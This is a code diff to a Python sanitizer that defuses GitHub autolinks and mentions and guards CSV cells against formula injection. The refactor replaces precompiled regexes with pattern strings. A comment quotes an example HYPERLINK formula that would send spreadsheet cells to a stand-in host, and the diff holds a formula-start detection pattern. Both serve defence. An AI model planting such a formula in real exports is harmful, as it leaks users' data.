@@ -131,19 +131,19 @@ def markdown_cell(text: object, limit: int = MAX_CHARS) -> str:
 _ZERO_WIDTH_SPACE = "\u200b"
 # GitHub turns @name into a ping, and http://, https://, ftp://, www. and a@b.c into links: www. even after a
 # word character ("x_www.example" is a link), so it is broken up wherever it stands.
-_AUTOLINK = re.compile(r"(?i)(@|://|www\.)")
+_AUTOLINK = r"(?i)(@|://|www\.)"  # compiled on first use (re caches it): not at every start
 
 
 def _no_links_or_mentions(text: str) -> str:
     """A zero-width space after '@', ':' of '://' and 'www' breaks every ping and autolink, invisibly."""
-    return _AUTOLINK.sub(lambda m: m[0][0] + _ZERO_WIDTH_SPACE + m[0][1:], text)
+    return re.sub(_AUTOLINK, lambda m: m[0][0] + _ZERO_WIDTH_SPACE + m[0][1:], text)
 
 
 # A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236, "CSV injection"):
 # a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click. Their
 # fullwidth forms too (some spreadsheets read them as the ASCII ones), and after blanks a spreadsheet may skip:
 # spaces, no-break spaces, zero-width characters, a byte order mark.
-_FORMULA_START = re.compile(
+_FORMULA_START = (  # compiled on first use (re caches it): not at every start
     "[\t\r\n\x00]|[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]"
 )
 
@@ -151,7 +151,7 @@ _FORMULA_START = re.compile(
 def spreadsheet_cell(text: str) -> str:
     """A text cell no spreadsheet runs: one that starts with a formula character, or with a tab, a line break or a
     NUL, gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
-    if _FORMULA_START.match(text):
+    if re.match(_FORMULA_START, text):
         return "'" + text
     return text
 
